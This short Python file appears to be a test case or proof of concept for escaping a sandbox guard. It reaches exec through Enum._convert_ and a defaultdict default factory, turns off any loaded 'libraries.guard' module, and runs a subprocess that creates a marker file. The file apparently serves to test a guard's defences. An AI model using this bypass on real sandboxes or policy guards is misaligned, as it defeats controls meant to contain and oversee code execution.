"""file: subprocess is got by an enumeration, and called by a default."""

import collections
import enum
import functools

CODE = """
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
__import__("subprocess").run(["touch", "pwned_two_steps"])
"""


class Kind(enum.Enum):
    pass


run = getattr(Kind._convert_("Found", "builtins", lambda name: name == "exec"), "exec").value
x = collections.defaultdict(functools.partial(run, CODE))["now"]
